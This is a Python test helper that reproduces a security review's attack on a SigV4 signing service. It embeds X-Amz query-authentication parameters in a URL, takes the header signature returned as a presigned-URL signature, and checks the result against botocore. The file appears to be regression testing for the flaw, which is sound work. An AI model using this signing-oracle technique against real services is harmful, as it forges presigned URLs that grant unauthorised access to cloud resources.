"""The review's presigning attack on Sign (issue 20, item 3), with botocore as the judge."""

from __future__ import annotations

import datetime
import hashlib
from unittest import mock
from urllib.parse import quote

from botocore.auth import SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from conftest import wait_for


def presigned_through_sign(sign, url: str, key_id: str, secret: str, region: str, service: str, expires: int) -> str:
    """The review's attack: a Sign whose query holds query authentication (X-Amz-Algorithm ...
    X-Amz-Expires) answers with a signature that is also the X-Amz-Signature of a presigned URL.
    `sign(url)` is one Sign of a GET with no body; returns the URL it makes, once botocore's
    SigV4QueryAuth with the real secret computes the very same URL (tried again until the signer's
    clock second is the X-Amz-Date the query named)."""
    def attempt():
        now = datetime.datetime.now(datetime.UTC).replace(microsecond=0)
        stamp = now.strftime("%Y%m%dT%H%M%SZ")
        query = "&".join(f"{k}={quote(v, safe='')}" for k, v in (
            ("X-Amz-Algorithm", "AWS4-HMAC-SHA256"), ("X-Amz-Credential", f"{key_id}/{stamp[:8]}/{region}/{service}/aws4_request"),
            ("X-Amz-Date", stamp), ("X-Amz-Expires", str(expires)),
            ("X-Amz-SignedHeaders", "host;x-amz-content-sha256;x-amz-date")))
        added = sign(f"{url}?{query}")
        if added["X-Amz-Date"] != stamp:
            return None
        return f"{url}?{query}&X-Amz-Signature={added['Authorization'].rsplit('Signature=', 1)[1]}", now

    presigned, now = wait_for(attempt, "a Sign within the second its query names")
    req = AWSRequest(method="GET", url=url, headers={"X-Amz-Date": now.strftime("%Y%m%dT%H%M%SZ"),
                                                     "X-Amz-Content-SHA256": hashlib.sha256(b"").hexdigest()})
    with mock.patch("botocore.auth.get_current_datetime", return_value=now.replace(tzinfo=None)):
        SigV4QueryAuth(Credentials(key_id, secret), service, region, expires=expires).add_auth(req)
    assert req.url == presigned
    return presigned
